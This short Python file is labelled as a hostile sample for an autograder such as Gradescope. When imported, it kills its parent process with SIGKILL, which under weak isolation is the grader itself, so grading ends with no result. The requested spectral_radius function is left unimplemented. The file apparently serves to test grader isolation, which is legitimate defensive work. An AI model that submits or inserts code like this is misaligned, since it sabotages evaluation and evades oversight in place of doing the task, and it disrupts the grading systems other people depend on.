# Hostile (Gradescope): kill the process that started this kernel. With weak
# isolation that is the grader itself, and grading ends without a result.
import os
import signal

_parent = os.getppid()
if _parent > 1:
    try:
        os.kill(_parent, signal.SIGKILL)
    except OSError as exc:
        print("could not signal the parent:", exc)


def spectral_radius(A):
    raise NotImplementedError
